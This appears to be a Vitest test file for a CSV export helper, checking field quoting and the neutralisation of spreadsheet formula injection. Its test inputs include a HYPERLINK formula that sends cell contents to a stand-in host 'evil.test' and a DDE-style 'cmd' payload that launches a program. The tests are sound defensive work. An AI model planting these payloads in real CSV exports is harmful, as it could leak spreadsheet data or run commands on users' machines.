import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from '../../../shared/domain/csv';

describe('CSV fields', () => {
  it('quotes fields that need it', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"\nbye')).toBe('"say ""hi""\nbye"');
  });

  it.each([
    ['=HYPERLINK("https://evil.test?"&A1,"Click")', `"'=HYPERLINK(""https://evil.test?""&A1,""Click"")"`],
    ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises %j so a spreadsheet shows it as text (check 46)', (text, expected) => {
    expect(csvField(text)).toBe(expected);
  });

  it.each(['-12.5', '+3', '-1e5', '42'])('leaves the plain number %s alone', (text) => {
    expect(csvField(text)).toBe(text);
  });

  it('guards headers too: a line is its fields', () => {
    expect(csvLine(['=cmd', 'Name', 'a,b'])).toBe(`'=cmd,Name,"a,b"`);
  });
});
